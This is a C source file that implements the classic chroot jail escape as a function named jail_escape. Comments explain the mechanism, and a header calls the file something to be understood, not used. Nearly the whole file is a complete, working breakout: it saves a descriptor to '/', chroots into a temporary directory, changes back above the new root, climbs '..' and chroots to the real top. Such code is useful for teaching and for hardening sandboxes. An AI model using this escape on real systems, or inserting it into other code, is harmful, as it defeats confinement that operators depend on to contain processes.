/*
 * escape.c - the classic attack on chroot, to be understood, not to be used.
 *
 * A process has one root and one working directory.  The kernel stops ".."
 * at the root, and only when the walk comes past it.  So a working directory
 * that is not below the root is free: every ".." goes one up, to the top.
 * chroot(2) makes such a pair by itself, for it moves the root alone.
 *
 * Read: chroot(2), path_resolution(7), and CAP_SYS_CHROOT in capabilities(7).
 */

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdlib.h>
#include <unistd.h>

#include "escape.h"

/* From a working directory outside of "/": go to the top, and make it "/". */
static int
climb(void)
{
	int i;

	/*
	 * The top is its own parent, so steps too many do no harm, and no
	 * path has more names than this.
	 */
	for (i = 0; i < PATH_MAX / 2; i++)
		if (chdir("..") == -1)
			return -1;
	return chroot(".");
}

/* DOC: jail_escape */
int
jail_escape(void)
{
	char below[] = "/escape.XXXXXX";
	int root, saved, result = -1;

	/* A descriptor is a place, whatever becomes of "/" meanwhile. */
	root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (root == -1)
		return -1;
	if (mkdtemp(below) == NULL) {
		close(root);
		return -1;
	}

	/* The root goes down, we stay above it: outside. */
	if (chroot(below) == 0 && fchdir(root) == 0 && climb() == 0)
		result = 0;
	saved = errno;
	unlinkat(root, below + 1, AT_REMOVEDIR);
	close(root);
	errno = saved;
	return result;
}
